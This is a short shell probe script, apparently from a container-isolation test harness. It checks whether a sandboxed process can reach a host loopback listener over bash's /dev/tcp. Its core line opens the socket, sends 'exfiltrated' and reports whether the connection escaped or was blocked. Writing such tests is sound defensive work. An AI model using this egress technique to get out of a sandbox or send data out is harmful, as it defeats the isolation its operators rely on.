# hostile: egress | TCP from the shell (bash's /dev/tcp) to the host's loopback listener
# expect: exit=73 status=error
# control: docker -network +network=host exit=42
# check: listener
# shellcheck shell=sh disable=SC1091 # _probe.sh sources the harness's params
. ./_probe.sh
bash -c 'exec 3<>"/dev/tcp/127.0.0.1/$1" && echo exfiltrated >&3 && read -r answer <&3 && [ "$answer" = ack ]' \
    bash "$TCP_PORT" && escaped "the host's listener answered"
blocked "no connection"
